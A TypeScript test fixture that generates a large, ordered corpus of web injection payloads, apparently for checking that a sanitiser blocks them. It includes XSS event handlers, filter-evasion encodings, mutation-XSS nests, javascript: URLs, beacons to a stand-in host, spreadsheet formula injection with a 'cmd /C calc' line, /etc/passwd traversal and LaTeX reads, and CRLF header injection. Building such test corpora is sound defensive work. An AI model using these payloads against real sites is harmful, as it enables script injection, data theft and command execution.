/**
 * Texts that try to run a script, to ask another machine for something, or to break out of where they stand; of our own
 * making, by kind. Whatever runs calls `xss(n)`; whatever is asked for is asked of {@link ELSEWHERE}.
 */
export interface Payload {
  readonly kind: string
  readonly text: string
}

/** No test may ever reach it; a request there is a failure. */
export const ELSEWHERE = 'https://elsewhere.example/'

/** § stands for the call, ¤ for the address. */
type Write = (call: string, address: string) => string

const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
]
const CARRIERS: readonly (readonly [tag: string, attributes: string])[] = [
  ['img', 'src=x'],
  ['svg', ''],
  ['body', ''],
  ['input', 'autofocus'],
  ['details', 'open'],
  ['video', 'src=x'],
  ['audio', 'src=x'],
  ['iframe', 'srcdoc=x'],
  ['marquee', ''],
  ['select', 'autofocus'],
  ['x-y', 'tabindex=1 autofocus'],
  ['object', 'data=x'],
]

/** An event handler on each kind of element, in each kind of quotes. */
const handlers: Write[] = CARRIERS.flatMap(([tag, attributes]) =>
  HANDLERS.map((handler, i): Write => {
    const quote = ['', '"', "'"][i % 3]!
    return call => `<${tag} ${attributes} ${handler}=${quote}${call}${quote}>`
  }),
)

/** The same tag as a careless filter does not know it. */
const DISGUISES: readonly ((html: string) => string)[] = [
  html => html.toUpperCase(),
  html => html.replace(/[a-z](?=[a-z ]*[ >])/, letter => letter.toUpperCase()),
  html => html.replaceAll(' ', '/'),
  html => html.replaceAll(' ', '\f'),
  html => html.replaceAll(' ', '\n'),
  html => html.replace('<', '<\0'),
  html => html.replace('>', '//'),
  html => `<<${html.slice(1)}`,
  html => html.replace('<', '\u{ff1c}').replace('>', '\u{ff1e}'),
  html => html.replace('<', '&lt;').replace('>', '&gt;'),
  html => html.replace('<', '&#60;').replace('>', '&#x3e;'),
  html => html.replace('<', '\\u003c').replace('>', '\\u003e'),
  html => html.replace('<', '%3c').replace('>', '%3e'),
  html => `<!-- --!>${html}`,
  html => `<![CDATA[${html}]]>`,
  html => `\u{202e}${html}\u{202c}`,
]
const disguised: Write[] = [
  '<script>§</script>',
  '<img src=x onerror=§>',
  '<svg onload=§>',
  '<a href=javascript:§>click</a>',
].flatMap(html =>
  DISGUISES.map(
    (disguise): Write =>
      call =>
        disguise(html).replaceAll('§', call),
  ),
)

/** Out of an attribute, a tag, a raw text, a comment or a script in which the text may stand. */
const WAYS_OUT = [
  ...['"', "'", '`', '">', "'>", '`>', '" ', "' ", '"/', '>', '/>', '"}', "'}", '"]', ')'],
  ...[
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</noscript>',
    '</template>',
    '</iframe>',
    '</svg>',
    '</math>',
  ],
  ...['-->', '--!>', ']]>', '?>', '*/', '\\";', "\\';", '${', '`;', '\u{2028}', '\u{2029}', '</p></td></table>'],
]
const AFTER = [
  '<script>§</script>',
  '<svg onload=§>',
  ' onmouseover=§ autofocus onfocus=§ tabindex=0 ',
  ';§;//',
  '<img src=x onerror=§>',
]
const breakouts: Write[] = WAYS_OUT.flatMap(way =>
  AFTER.map(
    (after): Write =>
      call =>
        way + after.replaceAll('§', call),
  ),
)

/** Addresses that are programs. */
const SCHEMES = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    '\u{1}javascript:',
    'java\tscript:',
    'java\nscript:',
    'java\r\nscript:',
  ],
  ...['javascript&colon;', 'javascript&#58;', '&#106;avascript:', 'javascript\u{0}:', 'vbscript:', 'livescript:'],
  ...[
    'data:text/html,<script>§</script>',
    'data:text/html;base64,',
    'data:image/svg+xml,<svg onload=§>',
    'blob:',
    'filesystem:',
  ],
  ...[
    'javascript://wire.example/%0a',
    'javascript:/*https://wire.example/*/',
    'view-source:javascript:',
    'feed:javascript:',
  ],
]
const addresses: Write[] = SCHEMES.flatMap(scheme => {
  const address: Write = call => (scheme.includes('§') ? scheme.replace('§', call) : `${scheme}${call}`)
  return [
    address,
    (call, elsewhere) => `<a href="${address(call, elsewhere)}">click</a>`,
    (call, elsewhere) => `[a link](${address(call, elsewhere)})`,
  ]
})

/** What asks for something without any script. */
const fetches: Write[] = [
  (_, to) => `<img src="${to}">`,
  (_, to) => `<img srcset="${to} 1x">`,
  (_, to) => `<link rel=stylesheet href="${to}">`,
  (_, to) => `<link rel=prefetch href="${to}">`,
  (_, to) => `<link rel=dns-prefetch href="${to}">`,
  (_, to) => `<link rel=preconnect href="${to}">`,
  (_, to) => `<link rel=modulepreload href="${to}">`,
  (_, to) => `<style>@import "${to}";</style>`,
  (_, to) => `<style>*{background:url(${to})}</style>`,
  (_, to) => `<style>@font-face{font-family:x;src:url(${to})}*{font-family:x}</style>`,
  (_, to) => `<p style="background:url(${to})">words</p>`,
  (_, to) => `<p style="list-style-image:url(${to});display:list-item">words</p>`,
  (_, to) => `<iframe src="${to}"></iframe>`,
  (_, to) => `<object data="${to}"></object>`,
  (_, to) => `<embed src="${to}">`,
  (_, to) => `<video poster="${to}" src="${to}"></video>`,
  (_, to) => `<audio src="${to}" autoplay></audio>`,
  (_, to) => `<track src="${to}">`,
  (_, to) => `<input type=image src="${to}">`,
  (_, to) => `<body background="${to}">`,
  (_, to) => `<table background="${to}"><td>x</table>`,
  (_, to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (_, to) => `<base href="${to}">`,
  (_, to) => `<form action="${to}"><button autofocus>send</button></form>`,
  (_, to) => `<svg><image href="${to}"/></svg>`,
  (_, to) => `<svg><use href="${to}#x"/></svg>`,
  (_, to) => `<svg><filter><feImage href="${to}"/></filter></svg>`,
  (_, to) => `<math><mtext href="${to}">x</mtext></math>`,
  (_, to) => `<script src="${to}"></script>`,
  (_, to) => `<script type=module src="${to}"></script>`,
  (_, to) => `<a href="#" ping="${to}">click</a>`,
  (_, to) => `![a picture](${to})`,
]

/** What a browser reads otherwise than a sanitiser does. */
const NESTS: readonly string[] = [
  '<noscript><p title="</noscript><img src=x onerror=§>">',
  '<template><img src=x onerror=§></template>',
  '<textarea><img src=x onerror=§>',
  '<title><img src=x onerror=§></title>',
  '<xmp><img src=x onerror=§></xmp>',
  '<svg><style><img src=x onerror=§></style></svg>',
  '<svg><title><style><img src=x onerror=§></style></title></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.§</script>"></iframe></foreignObject></svg>',
  '<svg><animate attributeName=href values="javascript:§"/></svg>',
  '<svg><a><animate attributeName=href to="javascript:§"/><text y=20>click</text></a></svg>',
  '<svg><set attributeName=onmouseover to=§></set></svg>',
  '<svg><script href="data:text/javascript,§"/></svg>',
  '<math><mi><table><mglyph><style><img src=x onerror=§></style></mglyph></table></mi></math>',
  '<math><annotation-xml encoding="text/html"><script>§</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>',
  '<table><td><svg><desc><td><img src=x onerror=§></td></desc></svg></table>',
  '<select><style></select><img src=x onerror=§></style>',
  '<iframe srcdoc="&lt;script&gt;parent.§&lt;/script&gt;"></iframe>',
  '<iframe src="javascript:parent.§"></iframe>',
  '<object data="data:text/html,<script>§</script>"></object>',
  '<embed src="data:text/html,<script>§</script>">',
  '<isindex formaction=javascript:§ type=submit>',
  '<button form=x formaction=javascript:§>click</button><form id=x></form>',
  '<details ontoggle=§ open><summary>x</summary></details>',
  '<dialog open onclose=§><form method=dialog><button>x</button></form></dialog>',
  '<p id=xss><p name=xss>',
  '<a id=location href="javascript:§"></a>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=§></p>',
  '<p style="width:expression(§)">x</p>',
  '<p style="-moz-binding:url(data:text/xml,§)">x</p>',
  '<link rel=import href="data:text/html,<script>§</script>">',
  '<script>/*<!--*/§</script>',
  '<!--<script>--><script>§</script>',
  '<![endif]--><script>§</script>',
  '<?xml-stylesheet href="javascript:§"?>',
  '<!DOCTYPE x [<!ENTITY e "<script>§</script>">]>&e;',
]
const nests: Write[] = NESTS.map(
  (nest): Write =>
    call =>
      nest.replaceAll('§', call),
)

/** What another program runs or takes for its own syntax: templates, spreadsheets, feeds, bibliographies, headers. */
const OTHERS: readonly string[] = [
  ...[
    '{{§}}',
    '{{constructor.constructor("§")()}}',
    '${§}',
    '#{§}',
    '<%= § %>',
    '{%§%}',
    '[[§]]',
    '@{§}',
    '*{§}',
    '~{§}',
  ],
  ...[
    '=§',
    '+§',
    '-§',
    '@§',
    '\t=§',
    '\r=§',
    '=HYPERLINK("¤","x")',
    '=IMAGE("¤")',
    '=WEBSERVICE("¤")',
    '=cmd|" /C calc"!A1',
  ],
  ...['"=§"', "'=§", ' =§', '%3DX', '\u{ff1d}§', ';=§', ',=§'],
  ...[
    ']]><script>§</script><![CDATA[',
    '&xxe;',
    '<?php § ?>',
    '</title></item><item><title>x',
    '</description><script>§</script>',
  ],
  ...[
    '}\n@online{x, title = {y}}',
    '\\input{/etc/passwd}',
    '\\write18{§}',
    '\nER  - \nTY  - NEWS',
    '\r\nUR  - ¤',
    '%\n}',
  ],
  ...['\r\nSet-Cookie: x=1', '\r\n\r\n<script>§</script>', '%0d%0aLocation: ¤', '\u{2028}§', '\u{560a}\u{560d}x: y'],
  ...[
    '{"__proto__":{"xss":1}}',
    '__proto__',
    'constructor',
    'hasOwnProperty',
    'toString',
    '../../etc/passwd',
    '..\\..\\x',
    '\0',
  ],
  ...[
    '\u{202e}evil\u{202c}',
    '\u{2067}x\u{2069}',
    '\u{feff}x',
    '\u{200b}',
    '\u{d800}',
    '\u{dfff}x',
    '\u{fffe}',
    'x'.repeat(10_000),
  ],
]
const others: Write[] = OTHERS.map(
  (text): Write =>
    (call, to) =>
      text.replaceAll('§', call).replaceAll('¤', to),
)

/** Every payload, always the same and in the same order. */
export const payloads: readonly Payload[] = Object.entries({
  handlers,
  disguised,
  breakouts,
  addresses,
  fetches,
  nests,
  others,
})
  .flatMap(([kind, writes]) => writes.map(write => [kind, write] as const))
  .map(([kind, write], n) => ({ kind, text: write(`xss(${n})`, `${ELSEWHERE}${n}`) }))
